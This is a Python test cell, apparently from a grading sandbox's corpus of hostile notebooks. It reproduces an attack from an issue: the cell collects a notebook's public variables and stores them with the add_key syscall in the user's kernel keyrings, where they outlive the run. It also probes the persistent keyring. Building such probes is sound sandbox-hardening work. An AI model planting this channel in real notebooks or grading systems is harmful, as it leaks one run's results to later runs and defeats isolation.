# A hostile cell of the gradekit corpus: stores the notebook's results with add_key in its uid's keyrings (they
# outlive the run).
# It runs after keyring_syscalls.py and prelude.py: the names imported below exist there.
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from keyring_syscalls import _ADD_KEY, _KEYCTL, _RINGS, _gk_ct, _gk_libc
    from prelude import _gk_note

# What the attack in issue 12 stored: the notebook's results (its public values), for the next notebook
# graded as this uid.
_payload = ("LEAKED-HANDOVER %r" % ({k: v for k, v in globals().items() if not k.startswith("_")
                                     and isinstance(v, (int, float, str, list, dict))},)).encode()[:300]
for _ring, _name in _RINGS:
    _r = _gk_libc.syscall(_ADD_KEY, b"user", b"gradekit-corpus-handover", _payload, len(_payload), _gk_ct.c_int(_ring))
    if _r >= 0:
        _gk_note("add_key stored key %d in the %s keyring: it outlives the run" % (_r, _name))
_p = _gk_libc.syscall(_KEYCTL, 22, _gk_ct.c_int(-1), _gk_ct.c_int(-4))            # KEYCTL_GET_PERSISTENT
if _p >= 0:
    _gk_note("the persistent keyring %d (kept for days) is reachable" % _p)
